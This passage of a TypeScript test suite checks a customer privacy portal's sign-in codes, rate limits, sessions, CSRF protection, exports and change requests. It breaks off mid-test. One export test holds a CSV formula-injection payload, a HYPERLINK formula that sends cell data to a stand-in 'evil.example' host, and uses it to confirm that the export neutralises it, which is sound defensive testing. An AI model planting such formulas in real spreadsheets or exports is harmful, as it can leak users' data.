import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openField, verifySignature } from '../../platform/crypto/index.js';
import { readTextOutbox } from '../../platform/sms.js';
import { startTestSmtpServer, type TestSmtpServer } from '../../testing/smtp.js';
import {
  authHeader,
  countCanary,
  forEachDialect,
  startRuntime,
  TestClock,
  type TestRuntime,
} from '../../testing/harness.js';
import { asStaffSession, newStaffMember } from '../../testing/staff.js';
import { receiptMessage } from './index.js';

interface Portal {
  readonly cookie: string;
  readonly csrf: string;
}

let seq = 0;
function unique(prefix: string): string {
  seq += 1;
  return `${prefix}${seq}x${Date.now().toString(36)}`;
}

function canariesFor() {
  const tag = unique('');
  return {
    givenName: `Givencanary${tag}`,
    familyName: `Familycanary${tag}`,
    email: `portal.canary.${tag}@example.org`,
    interest: `interestcanary${tag}`,
  };
}
type Canaries = ReturnType<typeof canariesFor>;

function codeIn(text: string): string {
  const code = /\b(\d{6})\b/.exec(text)?.[1];
  if (code === undefined) throw new Error('no code in the message');
  return code;
}

function errorCode(res: LightMyRequestResponse): string | undefined {
  return res.json<{ error?: { code: string } }>().error?.code;
}

function hits(body: string | Buffer, canaries: Partial<Canaries>): string[] {
  const buf = typeof body === 'string' ? Buffer.from(body) : body;
  return Object.values(canaries).filter((c) => countCanary(buf, c) > 0);
}

/** A Spanish mobile number unique to the test run: its notation as typed, and as stored. */
function newPhone(): { typed: string; e164: string } {
  seq += 1;
  const digits = String((seq * 7_919_333 + Math.floor(Math.random() * 1_000_000)) % 100_000_000);
  const national = `6${digits.padStart(8, '0')}`;
  return {
    typed: `+34 ${national.slice(0, 3)} ${national.slice(3, 6)} ${national.slice(6)}`,
    e164: `+34${national}`,
  };
}

/** RFC 4180 cells of a CSV text with CRLF line ends. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text.charAt(i);
    if (quoted) {
      if (ch === '"' && text.charAt(i + 1) === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text.charAt(i + 1) === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else {
      cell += ch;
    }
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

interface StaffMember {
  readonly id: string;
  readonly displayName: string;
  readonly cookie: string;
  readonly csrf: string;
}

interface AccessLogItem {
  action: string;
  actor: { type: string; role: string | null; displayName: string | null };
  purpose: string | null;
  taskId: string | null;
  categories: string[];
  breakGlass: boolean;
  masked: boolean;
}

interface ChangeRequestItem {
  id: string;
  status: string;
  reason: string | null;
  decidedAt: string | null;
}

const LOYALTY = 'loyalty_program';

forEachDialect((dialect) => {
  describe(`customer portal on ${dialect}`, () => {
    let rt: TestRuntime;
    let smtp: TestSmtpServer;
    let agent: string;
    let officer: string;
    const clock = new TestClock();
    let address = 0;

    beforeAll(async () => {
      smtp = await startTestSmtpServer();
      rt = await startRuntime(dialect, {
        clock,
        config: { smtpHost: '127.0.0.1', smtpPort: String(smtp.port) },
      });
      agent = await rt.token('agent');
      officer = await rt.token('privacy_officer');
    });
    afterAll(async () => {
      await rt.close();
      await smtp.close();
    });
    beforeEach(() => {
      // Every test signs in from its own client address, so per-source limits stay per test.
      address += 1;
    });
    const ip = () => `127.0.${Math.floor(address / 250)}.${(address % 250) + 1}`;

    async function newCustomer(canaries = canariesFor(), offers = true) {
      const res = await rt.app.inject({
        method: 'POST',
        url: '/api/v1/customers',
        headers: authHeader(agent),
        payload: {
          consents: [
            { purpose: 'loyalty_program', noticeVersion: '1', method: 'web_form' },
            ...(offers
              ? [{ purpose: 'personalized_offers', noticeVersion: '1', method: 'web_form' }]
              : []),
          ],
          identity: { givenName: canaries.givenName, familyName: canaries.familyName },
          contact: { email: canaries.email },
          ...(offers ? { preferences: { interests: [canaries.interest] } } : {}),
        },
      });
      expect(res.statusCode, res.body).toBe(201);
      return { id: res.json<{ id: string }>().id, canaries };
    }

    function post(url: string, payload?: object, portal?: Portal) {
      return rt.app.inject({
        method: 'POST',
        url,
        remoteAddress: ip(),
        headers: portal === undefined ? {} : { cookie: portal.cookie, 'x-csrf-token': portal.csrf },
        ...(payload === undefined ? {} : { payload }),
      });
    }
    function get(url: string, portal?: Portal) {
      return rt.app.inject({
        method: 'GET',
        url,
        remoteAddress: ip(),
        headers: portal === undefined ? {} : { cookie: portal.cookie },
      });
    }

    async function askCode(email: string, language = 'en') {
      smtp.clear();
      const res = await post('/api/v1/portal/login', { email, language });
      expect(res.statusCode, res.body).toBe(202);
      return res;
    }

    async function mailTo(email: string) {
      return smtp.waitFor((m) => m.to.includes(email));
    }

    async function signIn(email: string): Promise<Portal> {
      await askCode(email);
      const code = codeIn((await mailTo(email)).text);
      const res = await post('/api/v1/portal/login/verify', { email, code });
      expect(res.statusCode, res.body).toBe(200);
      const header = res.headers['set-cookie'];
      const cookie = (Array.isArray(header) ? header[0] : header) ?? '';
      expect(cookie).toMatch(/HttpOnly/);
      expect(cookie).toMatch(/SameSite=Strict/);
      expect(cookie).toMatch(/Path=\/api\/v1\/portal/);
      return {
        cookie: cookie.split(';')[0] ?? '',
        csrf: res.json<{ csrfToken: string }>().csrfToken,
      };
    }

    async function reverify(portal: Portal, email: string) {
      smtp.clear();
      const asked = await post('/api/v1/portal/reverify', undefined, portal);
      expect(asked.statusCode, asked.body).toBe(202);
      const code = codeIn((await mailTo(email)).text);
      const ok = await post('/api/v1/portal/reverify/verify', { code }, portal);
      expect(ok.statusCode, ok.body).toBe(200);
    }

    /** A staff request with a cookie session; writes carry its CSRF token. */
    function asStaff(member: StaffMember, method: 'GET' | 'POST', url: string, payload?: object) {
      return asStaffSession(rt, member, method, url, payload);
    }

    /** Invited by the privacy officer, accepted, signed in and past the second factor. */
    async function staffMember(
      role: 'agent' | 'privacy_officer',
      displayName = `Staff ${unique('Name')}`,
    ): Promise<StaffMember> {
      const { id, session } = await newStaffMember(rt, {
        role,
        granterToken: officer,
        clock,
        displayName,
      });
      return { id, displayName, ...session };
    }

    async function openTask(member: StaffMember, customerId: string): Promise<string> {
      const res = await asStaff(member, 'POST', '/api/v1/tasks', {
        customerId,
        purpose: LOYALTY,
        title: 'Check a change the customer asked for',
        assigneeId: member.id,
        dueAt: new Date(clock.now().getTime() + 24 * 60 * 60_000).toISOString(),
      });
      expect(res.statusCode, res.body).toBe(201);
      return res.json<{ id: string }>().id;
    }

    /** The newest text message to a number in the outbox, waited for. */
    async function textTo(e164: string): Promise<{ to: string; text: string }> {
      for (let i = 0; i < 100; i += 1) {
        const sms = (await readTextOutbox(rt.dataDir)).filter((m) => m.to === e164).at(-1);
        if (sms !== undefined) return sms;
        await new Promise((r) => setTimeout(r, 50));
      }
      throw new Error('no text message to the number');
    }

    async function changeRequests(portal: Portal): Promise<ChangeRequestItem[]> {
      const res = await get('/api/v1/portal/me/change-requests', portal);
      expect(res.statusCode, res.body).toBe(200);
      return res.json<{ items: ChangeRequestItem[] }>().items;
    }

    describe('identity verification', () => {
      it('sends a six-digit code by SMTP and opens a session with it; a customer who cannot read the code sees nothing', async () => {
        const { canaries } = await newCustomer();
        const before = await get('/api/v1/portal/me');
        expect(before.statusCode).toBe(401);
        await askCode(canaries.email);
        const mail = await mailTo(canaries.email);
        expect(mail.subject).toBe('Your Custodia code');
        const code = codeIn(mail.text);
        // Guessing fails; the right code opens the session.
        const wrong = String((Number(code) + 1) % 1_000_000).padStart(6, '0');
        const guessed = await post('/api/v1/portal/login/verify', {
          email: canaries.email,
          code: wrong,
        });
        expect(guessed.statusCode).toBe(401);
        expect(errorCode(guessed)).toBe('code_invalid');
        expect(hits(guessed.body, canaries)).toEqual([]);
        const ok = await post('/api/v1/portal/login/verify', { email: canaries.email, code });
        expect(ok.statusCode, ok.body).toBe(200);
        // The code passes once.
        const again = await post('/api/v1/portal/login/verify', { email: canaries.email, code });
        expect(errorCode(again)).toBe('code_expired');
        // Neither the code nor the address is in the log.
        expect(countCanary(Buffer.from(rt.logs.text()), code)).toBe(0);
        expect(hits(rt.logs.text(), canaries)).toEqual([]);
      });

      it('answers an unknown address exactly like a known one, and mails nothing to it', async () => {
        const { canaries } = await newCustomer();
        const known = await askCode(canaries.email);
        await mailTo(canaries.email);
        const unknownEmail = `${unique('nobody')}@example.org`;
        const unknown = await askCode(unknownEmail);
        expect(unknown.body).toBe(known.body);
        const tried = await post('/api/v1/portal/login/verify', {
          email: unknownEmail,
          code: '123456',
        });
        expect(tried.statusCode).toBe(401);
        expect(errorCode(tried)).toBe('code_invalid');
        await new Promise((r) => setTimeout(r, 200));
        expect(smtp.messages.filter((m) => m.to.includes(unknownEmail))).toEqual([]);
      });

      it('expires a code after 10 minutes and after 5 attempts', async () => {
        const { canaries } = await newCustomer();
        await askCode(canaries.email);
        const first = codeIn((await mailTo(canaries.email)).text);
        clock.advance(10 * 60_000);
        const late = await post('/api/v1/portal/login/verify', {
          email: canaries.email,
          code: first,
        });
        expect(errorCode(late)).toBe('code_expired');

        await askCode(canaries.email);
        const code = codeIn((await mailTo(canaries.email)).text);
        const wrong = String((Number(code) + 7) % 1_000_000).padStart(6, '0');
        for (let i = 0; i < 5; i += 1) {
          const res = await post('/api/v1/portal/login/verify', {
            email: canaries.email,
            code: wrong,
          });
          expect(errorCode(res)).toBe('code_invalid');
        }
        const sixth = await post('/api/v1/portal/login/verify', { email: canaries.email, code });
        expect(errorCode(sixth)).toBe('code_expired');
      });

      it('limits codes per address', async () => {
        const { canaries } = await newCustomer();
        for (let i = 0; i < 3; i += 1) await askCode(canaries.email);
        const fourth = await post('/api/v1/portal/login', { email: canaries.email });
        expect(fourth.statusCode).toBe(429);
        expect(hits(fourth.body, canaries)).toEqual([]);
        clock.advance(16 * 60_000);
        await askCode(canaries.email);
      });

      it('limits codes per client address across different email addresses (10 in 15 minutes)', async () => {
        const { id, canaries } = await newCustomer();
        // Ten codes from one client address, each for another email, are all sent.
        for (let i = 0; i < 10; i += 1) await askCode(`${unique('source')}@example.org`);
        smtp.clear();
        // The eleventh from the same client address is refused, even for a customer's address
        // that asked for nothing yet, and no mail goes out.
        const eleventh = await post('/api/v1/portal/login', { email: canaries.email });
        expect(eleventh.statusCode).toBe(429);
        expect(errorCode(eleventh)).toBe('rate_limited');
        expect(hits(eleventh.body, canaries)).toEqual([]);
        const refused = await rt.inspect.data
          .selectFrom('audit_entry')
          .select(['outcome', 'reason'])
          .where('customer_id', '=', id)
          .where('action', '=', 'portal.code.login')
          .execute();
        expect(refused).toEqual([{ outcome: 'denied', reason: 'source_throttled' }]);
        await new Promise((r) => setTimeout(r, 200));
        expect(smtp.messages.filter((m) => m.to.includes(canaries.email))).toEqual([]);
        // Another client address is not held back by this one's count.
        const elsewhere = await rt.app.inject({
          method: 'POST',
          url: '/api/v1/portal/login',
          remoteAddress: '192.0.2.77',
          payload: { email: canaries.email },
        });
        expect(elsewhere.statusCode, elsewhere.body).toBe(202);
        await mailTo(canaries.email);
        // The window passes and the first client address may ask again.
        clock.advance(16 * 60_000);
        await askCode(`${unique('source')}@example.org`);
      });

      it('accepts a code at 9:59 and refuses one at exactly 10:00', async () => {
        const { canaries } = await newCustomer();
        await askCode(canaries.email);
        const first = codeIn((await mailTo(canaries.email)).text);
        clock.advance(10 * 60_000 - 1_000);
        const justInTime = await post('/api/v1/portal/login/verify', {
          email: canaries.email,
          code: first,
        });
        expect(justInTime.statusCode, justInTime.body).toBe(200);

        await askCode(canaries.email);
        const second = codeIn((await mailTo(canaries.email)).text);
        clock.advance(10 * 60_000);
        const atTen = await post('/api/v1/portal/login/verify', {
          email: canaries.email,
          code: second,
        });
        expect(atTen.statusCode).toBe(401);
        expect(errorCode(atTen)).toBe('code_expired');
      });

      it('ends a session left idle for 15 minutes, and at logout', async () => {
        const { canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        expect((await get('/api/v1/portal/me', portal)).statusCode).toBe(200);
        clock.advance(15 * 60_000);
        expect((await get('/api/v1/portal/me', portal)).statusCode).toBe(401);
        const second = await signIn(canaries.email);
        const out = await post('/api/v1/portal/logout', undefined, second);
        expect(out.statusCode).toBe(204);
        expect((await get('/api/v1/portal/me', second)).statusCode).toBe(401);
      });

      it('ends a session two hours after it opened, however busy', async () => {
        const { canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        for (let minutes = 0; minutes < 110; minutes += 10) {
          clock.advance(10 * 60_000);
          expect((await get('/api/v1/portal/me', portal)).statusCode, String(minutes)).toBe(200);
        }
        clock.advance(9 * 60_000);
        expect((await get('/api/v1/portal/me', portal)).statusCode).toBe(200);
        clock.advance(60_000);
        const ended = await get('/api/v1/portal/me', portal);
        expect(ended.statusCode).toBe(401);
        expect(errorCode(ended)).toBe('unauthenticated');
      });

      it('refuses a write without the CSRF token', async () => {
        const { canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        const res = await post(
          '/api/v1/portal/me/change-requests',
          { changes: { birthDate: '1990-01-01' } },
          {
            cookie: portal.cookie,
            csrf: 'wrong',
          },
        );
        expect(res.statusCode).toBe(403);
        expect(errorCode(res)).toBe('csrf_failed');
      });
    });

    describe('seeing and taking away one’s data', () => {
      it('shows everything, with purposes, bases, retention and verification, audited as the customer’s read', async () => {
        const { id, canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        const res = await get('/api/v1/portal/me', portal);
        expect(res.statusCode, res.body).toBe(200);
        expect(res.headers['cache-control']).toBe('no-store');
        const me = res.json<{
          id: string;
          data: { identity: object; contact: object; preferences: object };
          contactPoints: { email: { value: string; verifiedAt: string | null } };
          categories: {
            category: string;
            purposes: { key: string; lawfulBasis: string; retentionDays: number }[];
            sources: string[];
          }[];
        }>();
        expect(me.id).toBe(id);
        expect(me.data.identity).toEqual({
          givenName: canaries.givenName,
          familyName: canaries.familyName,
        });
        expect(me.data.preferences).toEqual({ interests: [canaries.interest] });
        expect(me.contactPoints.email).toEqual({
          value: canaries.email,
          verifiedAt: clock.now().toISOString(),
        });
        const contact = me.categories.find((c) => c.category === 'contact');
        expect(contact?.purposes.map((p) => p.key).sort()).toEqual([
          'loyalty_program',
          'personalized_offers',
        ]);
        expect(contact?.purposes.find((p) => p.key === 'loyalty_program')?.lawfulBasis).toBe(
          'contract',
        );
        expect(contact?.purposes.every((p) => p.retentionDays > 0)).toBe(true);
        expect(contact?.sources).toEqual(['provided_by_you']);
        const audit = await rt.inspect.data
          .selectFrom('audit_entry')
          .select(['actor_type', 'actor_id', 'outcome'])
          .where('customer_id', '=', id)
          .where('action', '=', 'customer.self_read')
          .execute();
        expect(audit).toEqual([{ actor_type: 'customer', actor_id: id, outcome: 'allowed' }]);
      });

      it('should not let one customer reach another’s data; the export holds every canary of one’s own and none of another’s', async () => {
        const mine = await newCustomer();
        const theirs = await newCustomer();
        const portal = await signIn(mine.canaries.email);
        const me = await get('/api/v1/portal/me', portal);
        expect(hits(me.body, theirs.canaries)).toEqual([]);
        const json = await get('/api/v1/portal/me/export?format=json', portal);
        expect(json.statusCode).toBe(200);
        expect(json.json()).toMatchObject({ format: 'custodia.portal-export', version: 1 });
        expect(hits(json.body, mine.canaries).sort()).toEqual(Object.values(mine.canaries).sort());
        expect(hits(json.body, theirs.canaries)).toEqual([]);
        const csv = await get('/api/v1/portal/me/export?format=csv', portal);
        expect(csv.statusCode).toBe(200);
        expect(csv.headers['content-type']).toMatch(/^text\/csv/);
        expect(csv.body.split('\r\n')[0]).toBe('path,value');
        expect(hits(csv.body, mine.canaries).sort()).toEqual(Object.values(mine.canaries).sort());
        expect(hits(csv.body, theirs.canaries)).toEqual([]);
        // The customer's session opens no staff route.
        const staff = await get(`/api/v1/customers/${theirs.id}?purpose=loyalty_program`, portal);
        expect(staff.statusCode).toBe(401);
      });
    });

    describe('exports', () => {
      /** Distinct values in every field a customer can hold (channels are a closed list). */
      function everyField() {
        const tag = unique('');
        const phone = newPhone();
        return {
          canaries: {
            givenName: `Everygiven${tag}`,
            familyName: `Everyfamily${tag}`,
            email: `every.canary.${tag}@example.org`,
            phone: phone.e164,
            line1: `${tag} Canary Street 5`,
            line2: `Flat ${tag}B`,
            locality: `Localitycanary${tag}`,
            region: `Regioncanary${tag}`,
            postalCode: `PC${tag}`,
            interestA: `interestA${tag}`,
            interestB: `interestB${tag}`,
          },
          phoneTyped: phone.typed,
        };
      }
      type EveryField = ReturnType<typeof everyField>;

      async function newFullCustomer(
        { canaries, phoneTyped }: EveryField,
        birthDate: string,
        country: string,
        channels: string[],
      ) {
        const res = await rt.app.inject({
          method: 'POST',
          url: '/api/v1/customers',
          headers: authHeader(agent),
          payload: {
            consents: [
              { purpose: 'loyalty_program', noticeVersion: '1', method: 'web_form' },
              { purpose: 'personalized_offers', noticeVersion: '1', method: 'web_form' },
            ],
            identity: {
              givenName: canaries.givenName,
              familyName: canaries.familyName,
              birthDate,
            },
            contact: {
              email: canaries.email,
              phone: phoneTyped,
              postalAddress: {
                lines: [canaries.line1, canaries.line2],
                locality: canaries.locality,
                region: canaries.region,
                postalCode: canaries.postalCode,
                country,
              },
            },
            preferences: { interests: [canaries.interestA, canaries.interestB], channels },
          },
        });
        expect(res.statusCode, res.body).toBe(201);
        return res.json<{ id: string }>().id;
      }

      it('exports every field of one’s own, in JSON and in CSV, and nothing of another customer’s', async () => {
        const mine = everyField();
        const theirs = everyField();
        const id = await newFullCustomer(mine, '1971-03-14', 'ES', ['sms', 'post']);
        await newFullCustomer(theirs, '1968-11-23', 'PT', ['email']);
        const mineAll = { ...mine.canaries, birthDate: '1971-03-14' };
        const theirsAll = { ...theirs.canaries, birthDate: '1968-11-23' };
        const portal = await signIn(mine.canaries.email);

        const json = await get('/api/v1/portal/me/export?format=json', portal);
        expect(json.statusCode, json.body).toBe(200);
        expect(hits(json.body, mineAll).sort()).toEqual(Object.values(mineAll).sort());
        expect(hits(json.body, theirsAll)).toEqual([]);
        const exported = json.json<{
          id: string;
          data: Record<string, Record<string, unknown>>;
        }>();
        expect(exported.id).toBe(id);
        expect(exported.data).toEqual({
          identity: {
            givenName: mine.canaries.givenName,
            familyName: mine.canaries.familyName,
            birthDate: '1971-03-14',
          },
          contact: {
            email: mine.canaries.email,
            phone: mine.canaries.phone,
            postalAddress: {
              lines: [mine.canaries.line1, mine.canaries.line2],
              locality: mine.canaries.locality,
              region: mine.canaries.region,
              postalCode: mine.canaries.postalCode,
              country: 'ES',
            },
          },
          preferences: {
            interests: [mine.canaries.interestA, mine.canaries.interestB],
            channels: ['sms', 'post'],
          },
        });

        const csv = await get('/api/v1/portal/me/export?format=csv', portal);
        expect(csv.statusCode, csv.body).toBe(200);
        expect(hits(csv.body, mineAll).sort()).toEqual(Object.values(mineAll).sort());
        expect(hits(csv.body, theirsAll)).toEqual([]);
        const rows = parseCsv(csv.body);
        // The same content as the JSON export: one row per value, named by its JSON path.
        const cell = (path: string) => rows.find((r) => r[0] === path)?.[1];
        expect(cell('data.preferences.channels[1]')).toBe('post');
        expect(cell('data.identity.birthDate')).toBe('1971-03-14');
        expect(cell('data.contact.postalAddress.country')).toBe('ES');
        expect(cell('data.contact.postalAddress.lines[0]')).toBe(mine.canaries.line1);
        expect(cell('format')).toBe('custodia.portal-export');
        const flat: [string, string][] = [];
        const walk = (v: unknown, path: string): void => {
          if (Array.isArray(v)) v.forEach((x, i) => walk(x, `${path}[${String(i)}]`));
          else if (v !== null && typeof v === 'object')
            for (const [k, x] of Object.entries(v)) walk(x, path === '' ? k : `${path}.${k}`);
          else flat.push([path, v === null ? '' : typeof v === 'string' ? v : JSON.stringify(v)]);
        };
        walk(exported, '');
        // exportedAt is the time of each request; everything else is the same.
        const unquote = (v: string) => (/^'[=+\-@]/.test(v) ? v.slice(1) : v);
        expect(
          rows
            .slice(1)
            .filter((r) => r[0] !== 'exportedAt')
            .map((r) => [r[0] ?? '', unquote(r[1] ?? '')])
            .sort(),
        ).toEqual(flat.filter(([p]) => p !== 'exportedAt').sort());
        for (const path of [
          'categories[0].purposes[0].lawfulBasis',
          'categories[0].purposes[0].retentionDays',
          'categories[0].sources[0]',
          'categories[0].recipients[0].description',
          'consents[0].state',
          'contactPoints.email.verifiedAt',
        ]) {
          expect(cell(path), path).toBeDefined();
        }
      });

      it('quotes CSV cells a spreadsheet would run as formulas, and keeps the JSON values as they are', async () => {
        const tag = unique('');
        const givenName = `=HYPERLINK("https://evil.example/?q="&A1,"Open${tag}")`;
        const familyName = `@SUM(A1:A9)${tag}`;
        const interest = `-2+3${tag}`;
        const phone = newPhone();
        const email = `formula.${tag}@example.org`;
        const res = await rt.app.inject({
          method: 'POST',
          url: '/api/v1/customers',
          headers: authHeader(agent),
          payload: {
            consents: [
              { purpose: 'loyalty_program', noticeVersion: '1', method: 'web_form' },
              { purpose: 'personalized_offers', noticeVersion: '1', method: 'web_form' },
            ],
            identity: { givenName, familyName },
            contact: { email, phone: phone.typed },
            preferences: { interests: [interest, `plain${tag}`] },
          },
        });
        expect(res.statusCode, res.body).toBe(201);
        const portal = await signIn(email);
        const csv = await get('/api/v1/portal/me/export?format=csv', portal);
        expect(csv.statusCode, csv.body).toBe(200);
        const rows = parseCsv(csv.body);
        const cell = (path: string) => rows.find((r) => r[0] === path)?.[1];
        // Each cell that would start with = @ - + starts with an apostrophe instead.
        expect(cell('data.identity.givenName')).toBe(`'${givenName}`);
        expect(cell('data.identity.familyName')).toBe(`'${familyName}`);
        expect(cell('data.preferences.interests[0]')).toBe(`'${interest}`);
        expect(cell('data.preferences.interests[1]')).toBe(`plain${tag}`);
        expect(cell('data.contact.phone')).toBe(`'${phone.e164}`);
        expect(cell('data.contact.email')).toBe(email);
        for (const row of rows) for (const c of row) expect(c).not.toMatch(/^[=+\-@]/);
        // The quotes and the comma inside the name are escaped, not cell breaks.
        expect(rows.every((r) => r.length === 2)).toBe(true);
        const json = await get('/api/v1/portal/me/export?format=json', portal);
        expect(
          json.json<{ data: { identity: { givenName: string; familyName: string } } }>().data
            .identity,
        ).toEqual({ givenName, familyName });
      });
    });

    describe('correcting', () => {
      it('changes names directly, and refuses other fields there', async () => {
        const { canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        const newName = `Renamedcanary${unique('')}`;
        const res = await rt.app.inject({
          method: 'PATCH',
          url: '/api/v1/portal/me',
          remoteAddress: ip(),
          headers: { cookie: portal.cookie, 'x-csrf-token': portal.csrf },
          payload: { identity: { givenName: newName } },
        });
        expect(res.statusCode, res.body).toBe(200);
        expect((await get('/api/v1/portal/me', portal)).body).toContain(newName);
        const refused = await rt.app.inject({
          method: 'PATCH',
          url: '/api/v1/portal/me',
          remoteAddress: ip(),
          headers: { cookie: portal.cookie, 'x-csrf-token': portal.csrf },
          payload: { contact: { email: 'x@example.org' } },
        });
        expect(refused.statusCode).toBe(400);
      });

      it('turns other changes into requests that a privacy officer decides, and shows their status', async () => {
        const { id, canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        const asked = await post(
          '/api/v1/portal/me/change-requests',
          { changes: { birthDate: '1980-02-29' }, note: 'Typo at sign-up' },
          portal,
        );
        expect(asked.statusCode, asked.body).toBe(201);
        const requestId = asked.json<{ id: string }>().id;
        const queue = await rt.app.inject({
          url: '/api/v1/change-requests',
          headers: authHeader(officer),
        });
        expect(queue.statusCode).toBe(200);
        expect(queue.body).toContain(requestId);
        expect(queue.body).not.toContain('1980-02-29');
        // An agent without a task for the customer is told there is no such request.
        const byAgent = await rt.app.inject({
          method: 'POST',
          url: `/api/v1/change-requests/${requestId}/decide`,
          headers: authHeader(agent),
          payload: { decision: 'approve', reason: 'Checked the ID card' },
        });
        expect(byAgent.statusCode).toBe(404);
        const decided = await rt.app.inject({
          method: 'POST',
          url: `/api/v1/change-requests/${requestId}/decide`,
          headers: authHeader(officer),
          payload: { decision: 'approve', reason: 'Checked the ID card' },
        });
        expect(decided.statusCode, decided.body).toBe(200);
        const twice = await rt.app.inject({
          method: 'POST',
          url: `/api/v1/change-requests/${requestId}/decide`,
          headers: authHeader(officer),
          payload: { decision: 'reject', reason: 'Again' },
        });
        expect(twice.statusCode).toBe(409);
        const mine = await get('/api/v1/portal/me/change-requests', portal);
        expect(
          mine.json<{ items: { id: string; status: string; reason: string }[] }>().items,
        ).toMatchObject([{ id: requestId, status: 'approved', reason: 'Checked the ID card' }]);
        const me = await get('/api/v1/portal/me', portal);
        expect(
          me.json<{ data: { identity: { birthDate?: string } } }>().data.identity.birthDate,
        ).toBe('1980-02-29');
        expect(id).toBeDefined();
      });

      it('changes the email only after a fresh code and a code sent to the new address', async () => {
        const { canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        const newEmail = `${unique('moved.canary')}@example.org`;
        const early = await post(
          '/api/v1/portal/me/contact',
          { field: 'email', value: newEmail },
          portal,
        );
        expect(early.statusCode).toBe(403);
        expect(errorCode(early)).toBe('reverification_required');
        await reverify(portal, canaries.email);
        smtp.clear();
        const asked = await post(
          '/api/v1/portal/me/contact',
          { field: 'email', value: newEmail },
          portal,
        );
        expect(asked.statusCode, asked.body).toBe(202);
        const code = codeIn((await mailTo(newEmail)).text);
        const done = await post('/api/v1/portal/me/contact/verify', { code }, portal);
        expect(done.statusCode, done.body).toBe(200);
        const me = await get('/api/v1/portal/me', portal);
        expect(me.json<{ contactPoints: { email: object } }>().contactPoints.email).toEqual({
          value: newEmail,
          verifiedAt: clock.now().toISOString(),
        });
        // The waiting value was sealed: not in any store.
        expect(countCanary(await rt.storeBytes(), newEmail)).toBe(0);
      });

      it('changes the phone with a code sent to the new number (text outbox)', async () => {
        const { canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        const asked = await post(
          '/api/v1/portal/me/contact',
          { field: 'phone', value: '+34 612 345 678' },
          portal,
        );
        expect(asked.statusCode, asked.body).toBe(202);
        let sms: { to: string; text: string } | undefined;
        for (let i = 0; i < 50 && sms === undefined; i += 1) {
          sms = (await readTextOutbox(rt.dataDir)).filter((m) => m.to === '+34612345678').at(-1);
          if (sms === undefined) await new Promise((r) => setTimeout(r, 50));
        }
        const done = await post(
          '/api/v1/portal/me/contact/verify',
          { code: codeIn(sms?.text ?? '') },
          portal,
        );
        expect(done.statusCode, done.body).toBe(200);
        const me = await get('/api/v1/portal/me', portal);
        expect(
          me.json<{ contactPoints: { phone: { value: string } } }>().contactPoints.phone.value,
        ).toBe('+34612345678');
      });

      it('lists change requests to an agent only for customers they hold an open task for; to a privacy officer all', async () => {
        const mine = await newCustomer();
        const theirs = await newCustomer();
        const ask = async (email: string) => {
          const portal = await signIn(email);
          const res = await post(
            '/api/v1/portal/me/change-requests',
            { changes: { birthDate: '1980-01-01' } },
            portal,
          );
          expect(res.statusCode, res.body).toBe(201);
          return res.json<{ id: string }>().id;
        };
        const mineRequest = await ask(mine.canaries.email);
        const theirsRequest = await ask(theirs.canaries.email);
        const listed = async (member: StaffMember) => {
          const res = await asStaff(member, 'GET', '/api/v1/change-requests?status=pending');
          expect(res.statusCode, res.body).toBe(200);
          return res.json<{ items: { id: string }[] }>().items.map((r) => r.id);
        };
        const alice = await staffMember('agent');
        const privacyOfficer = await staffMember('privacy_officer');
        expect(await listed(alice)).not.toContain(mineRequest);
        const task = await openTask(alice, mine.id);
        const seen = await listed(alice);
        expect(seen).toContain(mineRequest);
        expect(seen).not.toContain(theirsRequest);
        expect(await listed(privacyOfficer)).toEqual(
          expect.arrayContaining([mineRequest, theirsRequest]),
        );
        // Closed, the task no longer shows the customer's requests.
        const closed = await asStaff(alice, 'POST', `/api/v1/tasks/${task}/close`);
        expect(closed.statusCode, closed.body).toBe(200);
        expect(await listed(alice)).not.toContain(mineRequest);
      });

      it('lets an agent decide only under an open task of theirs for the customer, and shows a rejection with its reason', async () => {
        const { id, canaries } = await newCustomer();
        const other = await newCustomer();
        const portal = await signIn(canaries.email);
        const alice = await staffMember('agent');
        const bob = await staffMember('agent');
        const task = await openTask(alice, id);
        const otherTask = await openTask(alice, other.id);
        const bobsTask = await openTask(bob, id);
        const ask = async (changes: object) => {
          const res = await post('/api/v1/portal/me/change-requests', { changes }, portal);
          expect(res.statusCode, res.body).toBe(201);
          return res.json<{ id: string }>().id;
        };
        const decide = (member: StaffMember, requestId: string, body: object) =>
          asStaff(member, 'POST', `/api/v1/change-requests/${requestId}/decide`, body);

        const birth = await ask({ birthDate: '1979-12-31' });
        const approve = { decision: 'approve', reason: 'Saw the ID card' };
        for (const grant of [
          {},
          { taskId: task },
          { taskId: task, purpose: 'personalized_offers' },
          { taskId: otherTask, purpose: LOYALTY },
          { taskId: bobsTask, purpose: LOYALTY },
          { taskId: crypto.randomUUID(), purpose: LOYALTY },
        ]) {
          const res = await decide(alice, birth, { ...approve, ...grant });
          expect(res.statusCode, JSON.stringify(grant)).toBe(404);
          expect(errorCode(res)).toBe('not_found');
        }
        expect((await changeRequests(portal)).find((r) => r.id === birth)).toMatchObject({
          status: 'pending',
          reason: null,
          decidedAt: null,
        });

        const approved = await decide(alice, birth, { ...approve, taskId: task, purpose: LOYALTY });
        expect(approved.statusCode, approved.body).toBe(200);
        expect(approved.json()).toMatchObject({ id: birth, status: 'approved' });
        expect((await changeRequests(portal)).find((r) => r.id === birth)).toEqual(
          expect.objectContaining({
            status: 'approved',
            reason: 'Saw the ID card',
            decidedAt: clock.now().toISOString(),
          }),
        );
        const me = await get('/api/v1/portal/me', portal);
        expect(
          me.json<{ data: { identity: { birthDate?: string } } }>().data.identity.birthDate,
        ).toBe('1979-12-31');
        const audit = await rt.inspect.data
